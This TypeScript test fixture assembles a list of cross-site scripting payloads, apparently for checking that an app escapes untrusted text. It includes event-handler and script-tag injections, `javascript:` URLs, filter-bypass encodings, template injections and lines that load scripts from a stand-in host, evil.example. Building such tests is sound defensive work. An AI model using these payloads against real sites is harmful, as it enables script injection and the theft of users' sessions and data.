/** HTML elements that run scripts by themselves or when used, each with its event. */
const elements = [
  ['img src=x', 'onerror'],
  ['img srcset=x', 'onerror'],
  ['svg', 'onload'],
  ['body', 'onload'],
  ['video src=x', 'onerror'],
  ['audio src=x', 'onerror'],
  ['input autofocus', 'onfocus'],
  ['select autofocus', 'onfocus'],
  ['textarea autofocus', 'onfocus'],
  ['button autofocus', 'onfocus'],
  ['details open', 'ontoggle'],
  ['marquee', 'onstart'],
  ['style', 'onload'],
  ['link rel=stylesheet href=data:,', 'onload'],
  ['object data=x', 'onerror'],
  ['embed src=x', 'onerror'],
  ['iframe src=data:,', 'onload'],
  ['p tabindex=1', 'onfocus'],
  ['form', 'onsubmit'],
  ['a href=#', 'onclick'],
  ['svg><animate dur=1s', 'onbegin'],
  ['math', 'onclick'],
  ['xss-mark', 'onclick'],
  ['picture><img src=x', 'onerror'],
  ['meta http-equiv=refresh', 'content'],
] as const

const alternateCase = (text: string) =>
  [...text].map((letter, i) => (i % 2 ? letter : letter.toUpperCase())).join('')

const payloads: ((element: string, event: string) => string)[] = [
  (element, event) => `<${element} data-xss ${event}=alert(1)>`,
  (element, event) => `<${alternateCase(element)} data-xss ${alternateCase(event)}="alert(1)">`,
  (element, event) => `"><${element} data-xss ${event}=alert(1)>`,
  (element, event) => `'/><${element} data-xss ${event}=alert(1)//`,
  (element, event) => `</textarea></style></title><${element} data-xss ${event}=alert(1)>`,
]

const scripts = [
  '<script data-xss>alert(1)</script>',
  '<ScRiPt data-xss>alert(1)</sCrIpT>',
  '<script data-xss src=//evil.example/x.js></script>',
  '<script data-xss src=data:,alert(1)></script>',
  '</script><script data-xss>alert(1)</script>',
  '"><script data-xss>alert(1)</script>',
  "';alert(1);//",
  '<script data-xss>\nalert(1)\n</script>',
  '<script data-xss type=module>alert(1)</script>',
  '<script data-xss>eval(name)</script>',
  '";alert(1);//',
  '\\";alert(1);//',
  '*/alert(1)/*',
  '<scr<script>ipt data-xss>alert(1)</scr</script>ipt>',
  '<<script data-xss>alert(1)//<</script>',
  '<script data-xss>alert`1`</script>',
  '<svg><script data-xss>alert&#40;1&#41;</script></svg>',
  '<noscript><p title="</noscript><img data-xss src=x onerror=alert(1)>">',
  '<template><script data-xss>alert(1)</script></template>',
]

const addresses = [
  ...['javascript:alert(1)', 'JaVaScRiPt:alert(1)', ' javascript:alert(1)', 'java\tscript:alert(1)'],
  ...['data:text/html,<script data-xss>alert(1)</script>', 'vbscript:alert(1)', 'javascript://%0aalert(1)'],
  '[x](javascript:alert(1))',
  '![x](x"onerror="alert(1))',
  '<a data-xss href=javascript:alert(1)>x</a>',
  '<a data-xss href="&#106;avascript:alert(1)">x</a>',
  '<form data-xss action=javascript:alert(1)><button>x',
  '<iframe data-xss src=javascript:alert(1)>',
  '<iframe data-xss srcdoc="<script>alert(1)</script>">',
  '<base data-xss href=//evil.example/>',
  '<math data-xss href=javascript:alert(1)>x',
]

const attributes = [
  '" onmouseover="alert(1)" x="',
  "' onmouseover='alert(1)' x='",
  '" autofocus onfocus="alert(1)',
  '` onmouseover=alert(1) x=`',
  '" style="background:url(//evil.example)',
  "');alert(1)//",
  '"};alert(1);//',
  '" data-xss="',
  "' data-xss='",
  'x onload=alert(1) data-xss',
  ...['&quot; onclick=alert(1) data-xss &quot;', '&#34; onclick=alert(1) data-xss'],
]

const templates = [
  ...["{{constructor.constructor('alert(1)')()}}", `\${alert(1)}`, '#{alert(1)}', '<%= alert(1) %>'],
  ...[
    '{{name}}',
    '$t(common:product)',
    '{{count}} $t(x)',
    '%s %d %o',
    '__proto__',
    'constructor',
    'toString',
  ],
  ...['<!--#exec cmd="x"-->', '<?php alert(1) ?>', ']]><img data-xss src=x onerror=alert(1)>'],
]

const encodedTexts = [
  '&lt;img data-xss src=x onerror=alert(1)&gt;',
  '&#60;img data-xss src=x onerror=alert(1)&#62;',
  '%3Cimg data-xss src=x onerror=alert(1)%3E',
  '\\u003cimg data-xss src=x onerror=alert(1)\\u003e',
  '\\x3cimg data-xss src=x onerror=alert(1)\\x3e',
  '＜img data-xss src=x onerror=alert(1)＞',
  '+ADw-script+AD4-alert(1)+ADw-/script+AD4-',
  '<\u200bimg data-xss src=x onerror=alert(1)>',
  '<img\u00a0data-xss src=x onerror=alert(1)>',
  '<svg><p><style><img data-xss src=x onerror=alert(1)>',
  '<math><mtext><table><mglyph><style><img data-xss src=x onerror=alert(1)>',
  '<form><math><mtext></form><form><mglyph><style></math><img data-xss src=x onerror=alert(1)>',
  '\u202e<img data-xss src=x onerror=alert(1)>',
  '<!--><img data-xss src=x onerror=alert(1)>-->',
  '<![CDATA[<img data-xss src=x onerror=alert(1)>]]>',
]

/**
 * Text that would run a script, send a request to another host or create an element if it were treated as markup. Such
 * elements have a `data-xss` attribute, or are `xss-mark` elements.
 */
export const hostileTexts: readonly string[] = [
  ...elements.flatMap(([element, event]) => payloads.map((payload) => payload(element, event))),
  ...scripts,
  ...addresses,
  ...attributes,
  ...templates,
  ...encodedTexts,
]
